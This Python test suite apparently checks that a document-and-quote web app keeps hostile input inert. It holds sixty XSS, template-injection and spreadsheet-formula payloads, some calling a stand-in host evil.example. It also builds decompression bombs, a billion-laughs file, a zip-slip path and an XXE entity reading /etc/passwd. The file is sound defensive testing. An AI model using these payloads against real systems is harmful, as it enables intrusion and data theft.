"""Hostile articles, names, files and fields: nothing of theirs runs, loads or leads anywhere, and nothing breaks the desk."""

from __future__ import annotations

import base64
import gzip
import io
import zipfile
from urllib.parse import quote

import pytest
from desk_visitor import Visitor
from lxml import html

# Ours: what a browser, a template engine, a script library or a spreadsheet might take for more than words.
PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example/x>", "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(//evil.example/x)>x</div>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=token></form>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=//evil.example ping=//evil.example>x</a>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '", "` onerror=alert(1) `",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<!--#include file=/etc/passwd-->", "<?php echo 1 ?>", "<%= 7*7 %>",
    "{{ 7*7 }}", "{{ config.__class__.__init__.__globals__ }}", "{% for x in range(9**9) %}x{% endfor %}", "${7*7}", "#{7*7}",
    "<div hx-get=//evil.example hx-trigger=load>x</div>", "<div data-hx-post=/example hx-trigger=load>x</div>", "<b hx-on:click=alert(1)>x</b>", "<p hx-vals='js:{a:alert(1)}'>x",
    "<div data-do=undo>x</div>", "<button form=undo-form>x</button>", "<input form=correct-form name=csrf>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>", "<video src=//evil.example/x autoplay>", "<audio src=//evil.example/x autoplay>", "<marquee onstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)", "＜script＞alert(1)＜/script＞", "\u202e<script>\u202c",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<script>alert(1)</script>", "=cmd|'/C calc'!A0", "javascript:alert(1)//",
)  # fmt: skip
ELEMENTS = {
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "form", "label", "input", "kbd", "nav", "main", "footer", "p", "button", "dialog", "h1", "h2",
    "h3", "table", "thead", "tbody", "tr", "th", "td", "div", "section", "article", "aside", "span", "strong", "ul", "ol", "li", "details", "summary", "figure", "figcaption",
    "svg", "rect", "text", "line", "b", "blockquote", "dl", "dt", "dd", "datalist", "option", "select", "textarea", "mark", "ins", "del", "code", "time", "br", "progress",
    "fieldset", "legend", "em",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "class", "id", "href", "rel", "type", "as", "crossorigin", "src", "defer", "name", "content", "charset", "action", "method", "role", "for", "placeholder",
    "autocomplete", "value", "hidden", "tabindex", "enctype", "multiple", "inert", "scope", "colspan", "dir", "open", "checked", "selected", "rows", "spellcheck", "maxlength",
    "required", "inputmode", "list", "download", "datetime", "max", "disabled", "min",
    "viewbox", "preserveaspectratio", "x", "y", "x1", "x2", "y1", "y2", "width", "height", "rx", "text-anchor",
}  # fmt: skip
HX = {"hx-get", "hx-post", "hx-target", "hx-trigger", "hx-swap"}


def harmless(page: str, where: str) -> None:
    """What stands in a page is ours: its elements, attributes and places; scripts are files of the desk."""
    tree = html.fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            raise AssertionError(f"{where}: a comment or an instruction {element}")
        assert element.tag in ELEMENTS, (where, element.tag)
        for name, value in element.attrib.items():
            known = name in ATTRIBUTES or name in HX or name.startswith(("aria-", "data-"))
            assert known, (where, element.tag, name)
            assert not name.startswith(("on", "data-hx")), (where, name)
            if name in ("href", "src", "action", "hx-get", "hx-post"):
                assert value.startswith(("/", "?", "#")), (where, name, value)
                assert not value.startswith("//"), (where, name, value)
            if name == "http-equiv" or (element.tag == "meta" and name == "content" and "url=" in value):
                raise AssertionError((where, value))
        if element.tag == "script":
            assert element.get("src", "").startswith("/static/"), where
            assert not (element.text or "").strip(), where
        if element.tag == "link":
            assert element.get("href", "").startswith("/static/"), where
    assert "49" not in [text.strip() for text in tree.itertext()], where


def pages_of(visitor: Visitor, document: str, statement: str, person: str, job: str) -> list[str]:
    return [
        "/", "/add", "/jobs", job, "/documents", "/people", "/search", f"/documents/{document}?s={statement}", f"/documents/{document}/text",
        f"/statements/{statement}", f"/statements/{statement}/card", f"/statements/{statement}/why", f"/statements/{statement}/variants", f"/people/{person}",
        f"/check?document={document}",
    ]  # fmt: skip


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 60


@pytest.mark.parametrize("part", range(6))
def test_no_payload_in_an_article_a_file_name_a_title_or_a_correction_becomes_more_than_words(visitor, desk, part):
    for number, payload in list(enumerate(PAYLOADS))[part * 10 : part * 10 + 10]:
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        page = (
            f"<html><head><title>{escaped}</title><meta property='og:site_name' content=\"{escaped}\"><meta name='author' content=\"{escaped}\">"
            f"</head><body><article><h1>{escaped}</h1><p>“We saw {escaped} there today,” Ana Cho said {number}.</p>"
            f"<p>Ana Cho said that {escaped} was all. The town was quiet on Monday, and the river was low.</p></article></body></html>"
        )
        text = f"{payload}\n\n“We saw {payload} there,” {payload} said on Monday {number}.\n\nAna Cho denied that {payload} was true.\n"
        name = payload.replace("/", "-").replace("\x00", "")[:80]
        files = [
            ("files", (f"{name}.html", page.encode("utf-8", "surrogatepass"))),
            ("files", (f"{name}.txt", text.encode("utf-8", "surrogatepass"))),
        ]
        job = visitor.post("/add", {"name": payload, "text": f"“It was {payload},” said Lena Ortiz {number}."}, files=files).headers[
            "location"
        ]
        visitor.work()
    statements = list(desk.store.statements())
    assert statements
    for one, payload in zip(statements, PAYLOADS[part * 10 : part * 10 + 10] * 40):
        visitor.part(f"/statements/{one.id}/correct", {"speaker": payload, "note": payload, "why": payload})
        visitor.part(f"/documents/{one.document_id}/missed", {"exact": payload, "prefix": payload, "suffix": payload, "speaker": payload})
    seen = set()
    for one in list(desk.store.statements()):
        for where in pages_of(visitor, one.document_id, one.id, one.speaker_id or "", f"{job}?then=stay"):
            if where not in seen and (where.startswith(("/documents/", "/statements/", "/people/")) or len(seen) < 400):
                seen.add(where)
                answer = visitor.get(where, follow_redirects=True)
                assert answer.status_code < 500, where
                harmless(answer.text, where)


FIELDS = ("words", "speaker", "about", "outlet", "document", "name", "since", "export", "order", "act")


def test_no_payload_in_a_query_or_a_path_becomes_more_than_words(visitor, mill):
    for number, payload in enumerate(PAYLOADS):
        for place, where in enumerate(("/search", "/documents", "/people", "/search")):
            given = dict.fromkeys(("words", "name", FIELDS[(number + place) % len(FIELDS)]), payload)
            answer = visitor.get(where, params=given)
            assert answer.status_code < 500, (where, given)
            if "html" in answer.headers["content-type"]:
                harmless(answer.text, f"{where}?{given}")
        for where in ("/documents/", "/statements/", "/people/", "/jobs/", "/checks/", "/"):
            answer = visitor.client.get(where + quote(payload, safe=""))
            assert answer.status_code in (303, 404, 405, 422), (where, payload)
            if "html" in answer.headers["content-type"]:
                harmless(answer.text, where)


def test_no_payload_in_a_draft_or_in_evidence_becomes_more_than_words(visitor):
    for number in range(0, 60, 6):
        some = PAYLOADS[number : number + 6]
        draft = "\n\n".join(f"“We never saw {payload} in the town at all,” Ana Cho said." for payload in some)
        tape = "\n".join(f"ANA CHO: We did see {payload} in the town at all. {payload}" for payload in some)
        files = [
            ("evidence", (some[0].replace("/", "-")[:60], tape.encode())),
            ("evidence", ("a.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v <b>x>hi <img src=x>")),
        ]
        check = visitor.post("/check", {"draft": draft, "name": some[1], "policy": "strict"}, files=files).headers["location"]
        answer = visitor.get(check)
        assert answer.status_code == 200
        harmless(answer.text, check)
        for form in ("html", "json", "csv"):
            assert "attachment" in visitor.get(f"{check}/export?form={form}").headers["content-disposition"]


# -- files that are made to hurt -----------------------------------------------------------------


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


HURTFUL = {
    "bomb.txt.gz": gzip.compress(bytes(60_000_000)),
    "bomb.docx": zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<w>" + b" " * 60_000_000 + b"</w>"}),
    "many.docx": zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>", **{f"word/{n}.xml": b"x" for n in range(5_000)}}),
    "laughs.docx": zipped(
        {
            "[Content_Types].xml": b"<x/>",
            "word/document.xml": b'<!DOCTYPE a [<!ENTITY a "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;") for n in range(9)) + b"]><a>&a8;</a>",
        }
    ),
    "slip.docx": zipped({"../../../../tmp/evil.txt": b"x", "[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
    "deep.html": b"<div>" * 200_000,
    "table.html": b"<table><tr><td>" * 30_000 + b"x",
    "nul.txt": bytes(1_000),
    "word.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000),
    "cut.pdf": b"%PDF-1.7\n1 0 obj <<",
    "xxe.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
}  # fmt: skip


def test_bombs_and_broken_files_are_failures_in_words_and_the_rest_goes_on(visitor, tmp_path):
    files = [("files", (name, data)) for name, data in HURTFUL.items()] + [
        ("files", ("good.txt", b"\xe2\x80\x9cSo,\xe2\x80\x9d Ana Cho said."))
    ]
    job = visitor.post("/add", files=files).headers["location"]
    visitor.work()
    facts = visitor.get(f"/api/v1{job}").json()
    assert facts["total"] == facts["done"] + facts["failed"] + facts["set_aside"] == len(files)
    assert facts["items"][-1]["state"] == "done"
    for item in facts["items"]:
        if item["state"] == "failed":
            assert item["message"]
            assert "Traceback" not in item["message"]
    assert facts["failed"] >= 7
    assert "root:x" not in visitor.get("/api/v1/documents").text


def test_bombs_as_evidence_are_failures_too(visitor):
    draft = "“So it goes in the end,” Ana Cho said."
    files = [("evidence", (name, data)) for name, data in HURTFUL.items() if name != "table.html"]
    check = visitor.post("/check", {"draft": draft}, files=files).headers["location"]
    page = visitor.page(check)
    assert "bomb.docx" in page


def test_a_file_over_the_limit_is_refused(visitor, monkeypatch):
    from sayso.desk import forms

    monkeypatch.setattr(forms, "MAX_BYTES", 1_000)
    answer = visitor.post("/add", files=[("files", ("large.txt", b"x" * 2_000))])
    assert answer.status_code == 413
    assert "large.txt is over" in answer.text


@pytest.mark.parametrize(
    "body",
    [
        b"", b"--x", b"--x\r\n", b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--", b'--x\r\nContent-Disposition: form-data; name="a"\r\n' * 3_000,
        b"--x\r\n" + b"A: b\r\n" * 9_000, b'--x\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\n' + bytes(70_000),
    ],
)  # fmt: skip
def test_broken_forms_break_nothing(visitor, body):
    visitor.post("/logout")
    headers = {"content-type": "multipart/form-data; boundary=x", "x-csrf-token": visitor.csrf}
    answer = visitor.client.post("/add", content=body, headers=headers)
    assert answer.status_code < 500
    assert visitor.client.post("/add", content=body, headers={**headers, "content-type": "multipart/form-data"}).status_code < 500


def test_base64_of_anything_is_a_document_or_a_failure(visitor):
    papers = [{"name": "\u202egpj.exe", "base64": base64.b64encode(bytes([number] * 50)).decode()} for number in range(0, 256, 16)]
    client = Visitor(visitor.desk).client
    key = client.post("/api/v1/documents", json={"documents": papers}).json()["job"]
    visitor.work()
    facts = visitor.get(f"/api/v1/jobs/{key}").json()
    assert facts["total"] == facts["done"] + facts["failed"] + facts["set_aside"] == 16
